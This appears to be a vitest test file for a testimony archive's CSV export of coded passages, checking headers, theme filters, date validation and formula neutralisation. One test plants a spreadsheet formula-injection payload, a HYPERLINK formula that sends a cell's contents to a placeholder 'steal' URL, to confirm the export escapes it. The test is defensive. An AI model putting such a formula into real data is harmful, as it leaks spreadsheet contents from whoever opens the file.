import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { handArchive, TEXT } from './handArchive';

const HEADER = ['Reference', 'Testimony title', 'Narrator roles', 'Date recorded', 'Access level', 'Kind', 'Segment title', 'Start', 'End', 'Passage text', 'Themes', 'Note', 'Review'];

function rowsOf(text: string): string[][] {
  return parse(text, { bom: true });
}

describe('coded passages as CSV', () => {
  it('writes one row per coded passage with its themes joined, BOM first and CRLF line ends', () => {
    const h = handArchive();
    const out = h.a.call('themes.exportPassages', {});
    expect(out.mimeType).toBe('text/csv;charset=utf-8');
    expect(out.filename).toMatch(/^coded-passages-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(out.text.startsWith('\uFEFFReference,')).toBe(true);
    expect(out.text.endsWith('\r\n')).toBe(true);
    expect(out.text.replace(/\r\n/g, '')).not.toMatch(/\n/);
    const [header, ...rows] = rowsOf(out.text);
    expect(header).toEqual(HEADER);
    // Every themed passage of T1, T2, T3 and T7; not s2 (no theme), not T6 (withdrawn), not the redaction.
    expect(out.rows).toBe(11);
    expect(rows).toHaveLength(11);
    const ref1 = h.a.call('testimonies.get', { id: h.t.T1 }).ref;
    expect(rows[2]).toEqual([ref1, 'One', 'Survivor / victim', '1979-11-03', 'Restricted', 'Coded passage', '', '10', '30', TEXT.slice(10, 30), 'Apology; Police violence', '', '']);
    expect(rows.find((r) => r[5] === 'Segment')?.slice(5, 9)).toEqual(['Segment', 'Arrival', '0', '40']);
  });

  it('keeps to a theme (with narrower themes) and to the filters', () => {
    const h = handArchive();
    const policing = h.a.call('themes.exportPassages', { themeId: h.th.PV });
    expect(rowsOf(policing.text).slice(1).map((r) => [r[7], r[8], r[10]])).toEqual([
      ['10', '30', 'Apology; Police violence'],
      ['50', '60', 'Torture'],
      ['0', '10', 'Torture'],
    ]);
    const maryland = h.a.call('themes.exportPassages', { themeId: h.th.PV, filters: { collections: ['Maryland'] } });
    expect(maryland.rows).toBe(1);
    expect(h.a.call('themes.exportPassages', { filters: { dateTo: '1935' } }).rows).toBe(2);
  });

  it('neutralises formulas in passage text and notes', () => {
    const h = handArchive();
    const evil = '=HYPERLINK("http://example.test/steal?"&A1,"Click")';
    h.db.prepare("UPDATE passages SET quote = ?, note = '+SUM(1,2)' WHERE id = ?").run(evil, h.p.p7);
    const out = h.a.call('themes.exportPassages', { themeId: h.th.TO });
    const row = rowsOf(out.text).find((r) => r[9]?.includes('HYPERLINK'));
    expect(row?.[9]).toBe(`'${evil}`);
    expect(row?.[11]).toBe("'+SUM(1,2)");
    expect(out.text).not.toMatch(/(^|,)=HYPERLINK/m);
  });

  it('refuses a theme that does not exist and a date it cannot read', () => {
    const h = handArchive();
    const who = { user: { name: 'R', role: 'researcher' as const } };
    expect(h.a.router.call(who, 'themes.exportPassages', { themeId: crypto.randomUUID() })).toMatchObject({ ok: false, error: { code: 'not_found' } });
    const backwards = h.a.router.call(who, 'themes.exportPassages', { filters: { dateFrom: '2000', dateTo: '1999' } });
    expect(backwards).toMatchObject({ ok: false, error: { code: 'invalid_input', field: 'filters.dateTo' } });
    expect(backwards.ok ? '' : backwards.error.message).toMatch(/starts \(2000\) after it ends \(1999\)/);
  });
});
